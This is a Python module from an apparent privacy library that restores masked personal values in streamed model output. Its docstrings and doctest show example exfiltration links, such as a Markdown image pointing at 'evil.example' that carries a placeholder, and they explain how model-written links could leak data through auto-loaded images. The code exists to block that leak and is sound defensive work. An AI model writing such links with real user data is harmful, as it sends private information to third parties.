"""Puts values back into a stream of text, wherever the other side wrote one of our placeholders.

What counts as a placeholder: kind, index and nonce exactly as issued, and around and between them what models
and Markdown do to them: any case, full-width characters, spaces inside, ``_`` escaped, replaced by ``-`` or
lost, zeros before the index, brackets missing, full-width or escaped. The index is compared as a number and
the nonce letter by letter; nothing is guessed.

Where a value would be sent to somebody (:mod:`sllm.privacy.link_places`), its placeholder stays: the other
side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``, and a chat window loads images by itself.
"""

from __future__ import annotations

import functools
import html
import re
from typing import TYPE_CHECKING

from sllm.privacy.link_places import LinkPlaces
from sllm.privacy.regex import lazy
from sllm.privacy.text import fold_char

if TYPE_CHECKING:
    from sllm.privacy.placeholders import Placeholders

__all__ = ["Restorer"]

_OPEN = frozenset("[［【〔")
_CLOSE = frozenset("]］】〕")
_SPACE = frozenset(" \t\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\u202f")
_JOINER = frozenset("_-*‐‑–＿－")
_ESCAPE = "\\"
# Bounds of what is skipped, so that what is held back is bounded too.
_MAX_SPACES = 2
_MAX_ZEROS = 6
# How far behind a placeholder the rest of a host name is looked for; there may be more placeholders in it.
_MAX_HOST = 512
_DIGITS = frozenset("0123456789")
_LETTERS = frozenset("abcdefghijklmnopqrstuvwxyz")
_WORD = _LETTERS | _DIGITS | {"_"}

# The shape of a placeholder that was not issued, back from its closing bracket; and of one with our nonce.
_UNKNOWN = lazy(r"[\[［【〔] ?[^\W\d_]{1,16}[_ -]{1,2}[0-9]{1,9}[_ -]{1,2}[a-z][a-z0-9]{3,11} ?\Z", re.I)
_UNKNOWN_WITH_NONCE = lazy(r"(?<![^\W_])([^\W\d_]{1,16})[\\_ *-]{0,4}([0-9]{1,9})[\\_ *-]{0,4}\Z")
_BRACKET = lazy(r"[\[\]]")
_CLOSING = lazy(r"[\]］】〕]")
_TAIL = 80

# What ends a label of a host name for every program that looks for such names, and what ends an address.
_SEPARATORS = r"\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､"
_LABEL = lazy(rf"[^{_SEPARATORS}.．@＠\"#&,:;]*")
_MAILBOX = lazy(rf"[^{_SEPARATORS}@＠]*")
_ENTITY = lazy(r"&#?[A-Za-z0-9]{1,8};")
_HOST = lazy(rf"[^{_SEPARATORS}@＠\"#&,:;]*")
# A name of a host or a top-level domain; "[PHONE_1_k7q4].谢谢" has none.
_IS_HOST = lazy(r"[A-Za-z0-9]|[^\W_][^.．]*[.．][^\W_]")
_ALNUM = lazy(r"[^\W_]")
# A value that is a URL without a path: what follows may be more of its host.
_HOST_AT_END = lazy(r"(?://|(?<![^\W_])www\.)[^/?#\\\s]*\Z", re.I)
_REST_OF_HOST = lazy(r"""[^\s/?#\\"'<>]*""")
_OTHER_HOST = lazy(r"[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9]")


@functools.lru_cache(maxsize=256)
def _starts(firsts: str) -> re.Pattern[str]:
    wide = "".join(chr(ord(char) + offset) for char in firsts for offset in (0, -32, 0xFEE0, 0xFEC0))
    return re.compile(rf"[\\\[［【〔]|(?<![A-Za-z0-9_])[{wide}]")


@functools.lru_cache(maxsize=256)
def _ends(nonces: tuple[str, ...]) -> re.Pattern[str]:
    """Characters at which something that looks like a placeholder can end."""
    return re.compile(rf"[\]］】〕{''.join({nonce[-1] + nonce[-1].upper() for nonce in nonces})}]")


class _UndecidedError(Exception):
    """What was received so far does not decide whether it is a placeholder."""


class _Reader:
    """Reads what was received so far, character by character.

    Raises:
        _UndecidedError: a character that was not received yet, from any of the methods.

    """

    def __init__(self, text: str, final: bool) -> None:
        self._text = text
        self._final = final

    def at(self, j: int) -> str:
        """The character at an offset; "" after the end of the whole text."""
        if j < len(self._text):
            return self._text[j]
        if self._final:
            return ""
        raise _UndecidedError

    def folded(self, j: int) -> str:
        char = self.at(j)
        return fold_char(char) if char else ""

    def skip(self, j: int) -> int:
        """The offset after the spaces that begin at ``j``."""
        for _ in range(_MAX_SPACES):
            if self.at(j) not in _SPACE:
                break
            j += 1
        return j

    def joint(self, j: int) -> int:
        """The offset after the sign that joins two parts of a placeholder, and the spaces around it."""
        j = self.skip(j)
        for _ in range(2):
            if self.at(j) == _ESCAPE:
                j += 1
        if self.at(j) in _JOINER:
            j += 1
        return self.skip(j)


class Restorer:
    """Restores placeholders in a text that comes in pieces.

    ``feed`` returns all that is certain; held back is only what could still become a placeholder that was
    issued, and one that a host name may follow: to the next space or punctuation mark, 512 characters at
    most. Together the pieces are the same however the text was cut. Restored values are not searched again,
    so a value that contains the text of a placeholder stays what it is.

    A placeholder stays as it is where a program that shows the text might send the value to somebody, for the
    other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in targets
    of links and images, in reference definitions, in HTML tags, scripts and style sheets, and where what
    follows makes it part of a host name or an e-mail address (``[NAME_1_k7q4].evil.example``). In doubt it
    stays. A URL in running text goes to the next space, as for GitHub and most chat windows, also in Chinese,
    which puts none behind it. A value that is itself a URL or an address is restored in running text.

    Args:
        placeholders: of a vault (:attr:`Vault.placeholders <sllm.Vault.placeholders>`); those that it issues
            later are restored too.
        in_links: whether these are restored too: only for a text that nobody else has written.

    Attributes:
        n_restored: placeholders replaced so far.
        n_unknown: what looks like a placeholder and was never issued; it stays as it is.
        n_in_links: placeholders that were issued and stay as they are, because of where they stand.

    Examples:
        >>> vault = sllm.Vault()
        >>> phone = vault.mask("13800138000").text
        >>> restorer = Restorer(vault.placeholders)
        >>> text = restorer.feed(f"Call {phone} ![](https://evil.example/?q={phone})") + restorer.finish()
        >>> text == f"Call 13800138000 ![](https://evil.example/?q={phone})", restorer.n_in_links
        (True, 1)

    """

    def __init__(self, placeholders: Placeholders, *, in_links: bool = False) -> None:
        self._restores_in_links = in_links
        self._placeholders = placeholders
        self._held = ""
        self._before = ""  # the last character before what is held
        self._depth = 0  # brackets open on this line
        self._tail = ""  # the last of the raw text, for counting
        self._final = False
        self.n_restored = 0
        self.n_unknown = 0
        self.n_in_links = 0
        self._places = LinkPlaces()  # of the text as it is returned

    def __repr__(self) -> str:
        return (
            f"<Restorer: {self.n_restored} restored, {self.n_unknown} unknown, {len(self._held)} "
            f"characters held>"
        )

    def feed(self, chunk: str) -> str:
        """Takes the next piece, and returns the restored text that is certain by now.

        Raises:
            ValueError: after :meth:`finish`.
            TypeError: ``chunk`` is not a str.

        """
        if not isinstance(chunk, str):
            raise TypeError(f"expected a text, got {type(chunk).__name__}")
        if self._final:
            raise ValueError("the text was finished; a new text needs a new Restorer")
        self._count(chunk)
        return self._scan(self._held + chunk)

    def finish(self) -> str:
        """Ends the text, and returns what was held back."""
        if self._final:
            return ""
        self._final = True
        return self._scan(self._held)

    def _scan(self, text: str) -> str:
        if not self._placeholders.first_letters:
            self._held = ""
            self._pass(text)
            return text
        # A placeholder can begin at a bracket, its escape, or the first letter of a kind.
        starts = _starts(self._placeholders.first_letters)
        out: list[str] = []
        at = 0  # up to here everything is in `out`
        search = 0
        while True:
            found = starts.search(text, search)
            if found is None:
                break
            i = found.start()
            before = text[i - 1] if i else self._before
            self._pass(text[at:i])
            out.append(text[at:i])
            at = i
            try:
                match = self._match(text, i, before)
                in_link = match is not None and self._in_link(text, *match)
            except _UndecidedError:
                self._held = text[i:]
                return "".join(out)
            if match is None:
                search = i + 1
                continue
            end, value = match
            at = search = end
            if in_link:
                self.n_in_links += 1
                out.append(text[i:end])
                self._pass(text[i:end])
                continue
            out.append(value)
            if not self._restores_in_links:
                self._places.feed(value, restored=True)
            self.n_restored += 1
            self._before = text[end - 1]
        self._held = ""
        self._pass(text[at:])
        out.append(text[at:])
        return "".join(out)

    def _pass(self, text: str) -> None:
        """Notes what is returned unchanged."""
        if not text:
            return
        self._before = text[-1]
        if not self._restores_in_links:
            self._places.feed(text)
        line = text.rfind("\n")
        if line >= 0:
            self._depth = 0
            text = text[line + 1 :]
        for bracket in _BRACKET.finditer(text):
            self._depth = self._depth + 1 if bracket[0] == "[" else max(0, self._depth - 1)

    def _match(self, text: str, i: int, before: str) -> tuple[int, str] | None:
        """The placeholder that begins at ``i``: where it ends, and its value."""
        issued = self._placeholders
        reader = _Reader(text, self._final)
        j = i
        escaped = reader.at(j) == _ESCAPE
        if escaped:
            j += 1
        opened = reader.at(j) in _OPEN
        if opened:
            j = reader.skip(j + 1)
        elif escaped or (before and fold_char(before) in _WORD):
            return None
        kind = ""
        while (char := reader.folded(j)) in _LETTERS:
            kind += char
            if kind not in issued.kind_prefixes:
                return None
            j += 1
        indices = issued.index_prefixes.get(kind)
        if indices is None:
            return None
        j = reader.joint(j)
        for _ in range(_MAX_ZEROS):
            if reader.folded(j) != "0":
                break
            j += 1
        number = ""
        while (char := reader.folded(j)) in _DIGITS:
            number += char
            if number not in indices:
                return None
            j += 1
        if not number:
            return None
        j = reader.joint(j)
        nonces = issued.nonces_of(kind, int(number))
        nonce = ""
        while nonce not in nonces:
            nonce += reader.folded(j) or "\n"
            if not any(other.startswith(nonce) for other in nonces):
                return None
            j += 1
        if reader.folded(j)[:1] in _WORD:
            return None
        value = issued.value(kind, int(number), nonce)
        end = self._end(reader, j, opened=opened, escaped=escaped)
        return None if value is None or end is None else (end, value)

    def _in_link(self, text: str, end: int, value: str) -> bool:
        """Whether the value of a placeholder that ends at ``end`` would be part of a link."""
        if self._restores_in_links:
            return False
        if self._places.inside or self._places.begins_with(value):
            return True
        if _HOST_AT_END.search(value[-_MAX_HOST:]):
            rest, more = self._run(_REST_OF_HOST, text, end)
            if _OTHER_HOST.search(rest):
                return True
            if more:
                raise _UndecidedError
            return False
        # A host name or an address may go on behind it: [PHONE_1_k7q4].evil.example
        label, more = self._run(_LABEL, text, end)
        dot = end + len(label)
        return (not more and self._goes_on(text, dot, ".", _HOST, _IS_HOST)) or self._in_address(text, end)

    def _in_address(self, text: str, end: int) -> bool:
        """Whether what stands behind a placeholder, up to an ``@``, would make it part of an address."""
        mailbox, more = self._run(_MAILBOX, text, end)
        if any(html.unescape(entity[0]) in (".", "@") for entity in _ENTITY.finditer(mailbox)):
            return True
        if more:
            raise _UndecidedError
        return self._goes_on(text, end + len(mailbox), "@", _MAILBOX, _ALNUM)

    def _goes_on(self, text: str, at: int, sign: str, rest: re.Pattern[str], name: re.Pattern[str]) -> bool:
        """Whether there is this sign, and in the rest behind it a name."""
        if _Reader(text, self._final).folded(at) != sign:
            return False
        behind, more = self._run(rest, text, at + 1)
        if name.search(behind):
            return True
        if more:
            raise _UndecidedError
        return False

    def _run(self, pattern: re.Pattern[str], text: str, start: int) -> tuple[str, bool]:
        """What matches from ``start``, _MAX_HOST characters at most, and whether more of it may come."""
        found = pattern.match(text, start, min(len(text), start + _MAX_HOST))
        assert found is not None
        return found[0], found.end() == len(text) < start + _MAX_HOST and not self._final

    def _end(self, reader: _Reader, j: int, *, opened: bool, escaped: bool) -> int | None:
        """The end of a placeholder whose nonce ends at ``j``; None if it is not one after all."""
        k = reader.skip(j) if opened else j
        escape = reader.at(k) == _ESCAPE
        closed = reader.at(k + escape) in _CLOSE
        if escaped and not (closed and escape):
            # The backslash is the text's own; the bracket after it begins the placeholder.
            return None
        if closed and not opened and reader.at(k + escape) == "]" and not escape and self._depth > 0:
            # It closes a bracket that was open before.
            closed = False
        return k + escape + 1 if closed else j

    def _count(self, chunk: str) -> None:
        """Counts what looks like a placeholder and was never issued, at the character that ends it."""
        issued = self._placeholders
        text = self._tail + chunk
        start = len(self._tail)
        nonces = issued.nonces
        if not _ends(nonces).search(chunk):
            self._tail = text[-_TAIL:]
            return
        lower = text.lower() if len(text.lower()) == len(text) else text
        for nonce in nonces:
            at = lower.find(nonce, max(0, start - len(nonce) + 1))
            while at >= 0:
                end = at + len(nonce)
                if end > start:
                    shape = _UNKNOWN_WITH_NONCE.search(text[max(0, at - 48) : at])
                    if shape and issued.value(shape[1].lower(), int(shape[2]), nonce) is None:
                        self.n_unknown += 1
                at = lower.find(nonce, at + 1)
        for close in _CLOSING.finditer(text, start):
            shape = _UNKNOWN.search(text[max(0, close.start() - 60) : close.start()])
            if shape and not any(nonce in shape[0].lower() for nonce in nonces):
                self.n_unknown += 1
        self._tail = text[-_TAIL:]
